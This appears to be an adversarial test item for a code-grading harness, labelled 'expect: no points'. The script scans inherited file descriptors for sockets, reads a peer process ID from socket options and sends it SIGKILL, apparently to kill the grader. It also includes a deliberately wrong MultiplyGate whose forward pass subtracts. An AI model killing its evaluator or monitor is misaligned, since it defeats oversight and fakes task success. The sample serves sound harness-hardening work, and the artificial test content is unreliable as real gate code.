# expect: no points
# why: asks its channel for the process at its other end, and for a descriptor of it, to signal it
import ctypes
import os
import signal
import socket

for descriptor in range(3, 64):
    try:
        channel = socket.socket(fileno=os.dup(descriptor))
    except OSError:
        continue
    for option in range(100):
        try:
            got = channel.getsockopt(socket.SOL_SOCKET, option, 64)
            pid = int.from_bytes(got[:4], "little")
            signal.pidfd_send_signal(pid, signal.SIGKILL)
        except (OSError, OverflowError):
            pass
        try:
            os.kill(pid, signal.SIGKILL)
        except (OSError, NameError, OverflowError):
            pass


class MultiplyGate:
    def forward(self, x, y):
        return x - y

    def backward(self, dz):
        return [dz, dz]
